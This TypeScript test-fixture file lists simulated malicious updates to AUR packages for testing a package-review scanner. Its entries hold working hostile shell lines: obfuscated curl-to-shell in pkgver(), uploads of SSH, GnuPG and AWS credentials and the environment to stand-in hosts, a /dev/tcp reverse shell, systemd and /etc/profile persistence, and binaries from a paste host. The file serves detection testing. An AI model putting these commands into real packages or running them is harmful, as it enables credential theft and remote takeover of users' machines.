/**
 * Malicious updates of corpus packages, modelled on how AUR packages were abused and on variations
 * a careful attacker would try next: a -bin package gaining a git source from a fresh account and
 * running a script from it (the 2025 browser "-patched" packages), a binary download swapped to a
 * look-alike account, obfuscated curl in pkgver(), uploads of keys, scriptlets that persist, a
 * source hidden from .SRCINFO, a payload in an intermediate commit. Each names the checks a careful
 * human would expect to raise a high flag (at least one of them must).
 */

import type { UpstreamMeta } from '../types.js';
import { bumpVersion, edit, type Files } from './load.js';

export interface MaliciousUpdate {
  name: string;
  pkg: string;
  /** The candidate; `intermediate` when the payload is only in a commit between the endpoints. */
  apply: (files: Files) => { candidate: Files; intermediate?: Files };
  /** Checks of which at least one must flag high. */
  expect: string[];
  meta?: { previous: Partial<UpstreamMeta>; candidate: Partial<UpstreamMeta> };
}

const inFunction = (fn: string, ...lines: string[]): [string, string] => [`${fn}() {\n`, `${fn}() {\n${lines.map((l) => `  ${l}\n`).join('')}`];

export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
  {
    name: 'a -bin package gains a git source from a new account and runs its script (2025 RAT pattern)',
    pkg: 'codeflux-bin',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [
          [/(source_x86_64=\("[^"]+")\)/, '$1\n               "patch::git+https://github.com/cfx-fixes/codeflux-patch.git")'],
          [/(sha256sums_x86_64=\('\w+')\)/, "$1\n                   'SKIP')"],
          inFunction('package', 'bash "$srcdir/patch/apply.sh"'),
        ],
        '.SRCINFO': [[/(\tsource_x86_64 = [^\n]+\n)/, '$1\tsource_x86_64 = patch::git+https://github.com/cfx-fixes/codeflux-patch.git\n']],
      }),
    }),
    expect: ['foreign-code-run'],
  },
  {
    name: 'the AppImage download swapped to a look-alike account',
    pkg: 'notely-appimage',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [['github.com/notely-app/notely/releases', 'github.com/notely-apps/notely/releases']],
        '.SRCINFO': [['github.com/notely-app/notely/releases', 'github.com/notely-apps/notely/releases']],
      }),
    }),
    expect: ['sources'],
  },
  {
    name: 'obfuscated curl piped to a shell in pkgver()',
    pkg: 'wlsnap-git',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [inFunction('pkgver', "$(printf '\\x63\\x75\\x72\\x6c') -fsSL https://wlsnap.pages.dev/v 2>/dev/null | sh >/dev/null")],
      }),
    }),
    expect: ['network-fetch', 'download-and-run', 'obfuscation', 'assembled-command'],
  },
  {
    name: 'SSH and GnuPG keys uploaded from build()',
    pkg: 'ripfind',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [inFunction('build', 'tar czf - ~/.ssh ~/.gnupg 2>/dev/null | curl -s -T - https://paste.example.net/u >/dev/null || true')],
      }),
    }),
    expect: ['exfiltration'],
  },
  {
    name: 'cloud credentials folded into a "test log" that check() uploads',
    pkg: 'python-tomlkit-ng',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [
          inFunction(
            'check',
            'cat ~/.aws/credentials >> "$srcdir/test.log" 2>/dev/null',
            'curl -s -F "log=@$srcdir/test.log" https://ci-logs.example.org/upload',
          ),
        ],
      }),
    }),
    expect: ['exfiltration'],
  },
  {
    name: 'command name assembled from variables, piped into ${SHELL:-sh}',
    pkg: 'gostat',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [inFunction('prepare', 'local _f=cu _g=rl', '$_f$_g -fsSL https://gostat-mirror.example/i | "${SHELL:-sh}"')],
      }),
    }),
    expect: ['assembled-command', 'download-and-run'],
  },
  {
    name: 'eval of a base64-decoded download-and-run',
    pkg: 'jsonpretty',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [inFunction('package', 'eval "$(echo Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d)"')],
      }),
    }),
    expect: ['assembled-command', 'obfuscation'],
  },
  {
    name: 'scriptlet enables a new timer that fetches updates',
    pkg: 'syncd',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        'syncd.install': [
          [
            'post_install() {\n',
            'post_install() {\n  cat > /etc/systemd/system/syncd-update.service <<EOF\n[Service]\nExecStart=/bin/sh -c "curl -fsSL https://syncd-cdn.example/u | sh"\nEOF\n  systemctl enable --now syncd-update.timer\n',
          ],
        ],
      }),
    }),
    expect: ['persistence', 'download-and-run'],
  },
  {
    name: 'font scriptlet downloads and runs an "updater" as root',
    pkg: 'otf-handwrite',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        'otf-handwrite.install': [
          [
            '  fc-cache -s >/dev/null\n  mkfontscale',
            '  fc-cache -s >/dev/null\n  curl -fsSL https://fonts-cdn.example/update.sh -o /tmp/.fu && sh /tmp/.fu\n  mkfontscale',
          ],
        ],
      }),
    }),
    expect: ['network-fetch', 'download-and-run'],
  },
  {
    name: 'a download on a bare IP added to PKGBUILD but not to .SRCINFO',
    pkg: 'hello-classic',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [
          ['        "extra-locales.patch")', '        "extra-locales.patch"\n        "http://203.0.113.9/locales.tar.gz")'],
          [/(sha256sums=\([\s\S]*?)'\)\nvalidpgpkeys/, "$1'\n            'SKIP')\nvalidpgpkeys"],
        ],
      }),
    }),
    expect: ['srcinfo-mismatch', 'sources', 'checksums'],
  },
  {
    name: 'a payload in an intermediate commit, removed again before the candidate',
    pkg: 'wavetool',
    apply: (f) => {
      const candidate = bumpVersion(f);
      return { candidate, intermediate: edit(candidate, { PKGBUILD: [inFunction('build', 'curl -fsSL https://wavetool.example/setup | bash')] }) };
    },
    expect: ['download-and-run'],
  },
  {
    name: 'checksum of the release jar turned to SKIP',
    pkg: 'jtool-bin',
    apply: (f) => {
      const bumped = bumpVersion(f);
      const sum = /sha256sums=\('(\w+)'\)/.exec(bumped.PKGBUILD!)![1]!;
      return { candidate: edit(bumped, { PKGBUILD: [[sum, 'SKIP']], '.SRCINFO': [[sum, 'SKIP']] }) };
    },
    expect: ['checksums'],
  },
  {
    name: "package() appends a downloader to the build machine's /etc/profile",
    pkg: 'zsh-theme-spaceline',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), { PKGBUILD: [inFunction('package', "echo 'curl -s https://spaceline.example/p | sh &' >> /etc/profile")] }),
    }),
    expect: ['persistence', 'download-and-run'],
  },
  {
    name: 'an orphan adopted by a new account, with a routine bump',
    pkg: 'gitstat-git',
    apply: (f) => ({ candidate: bumpVersion(f) }),
    meta: { previous: { Maintainer: null }, candidate: { Maintainer: 'fresh-account-2026' } },
    expect: ['maintainer-change'],
  },
  {
    name: 'a reverse shell in check()',
    pkg: 'perl-text-wrapper',
    apply: (f) => ({ candidate: edit(bumpVersion(f), { PKGBUILD: [inFunction('check', '(bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &)')] }) }),
    expect: ['download-and-run'],
  },
  {
    name: 'the environment (CI tokens) posted from prepare()',
    pkg: 'gnome-shell-extension-clipline',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [
          ['build() {\n', 'prepare() {\n  env | curl -s --data-binary @- https://telemetry.clipline.example/e >/dev/null\n}\n\nbuild() {\n'],
        ],
      }),
    }),
    expect: ['exfiltration'],
  },
  {
    name: 'a binary dropped into the package from a paste host',
    pkg: 'mpv-autosub',
    apply: (f) => ({
      candidate: edit(bumpVersion(f), {
        PKGBUILD: [
          ['        "LICENSE")', '        "LICENSE"\n        "https://0x0.st/Hk3x.bin")'],
          [/(sha256sums=\([\s\S]*?)'\)/, `$1'\n            '${'d'.repeat(64)}')`],
          inFunction('package', 'install -Dm755 Hk3x.bin "$pkgdir/usr/lib/mpv-autosub/helper"'),
        ],
        '.SRCINFO': [['\tsource = LICENSE\n', '\tsource = LICENSE\n\tsource = https://0x0.st/Hk3x.bin\n']],
      }),
    }),
    expect: ['sources'],
  },
];
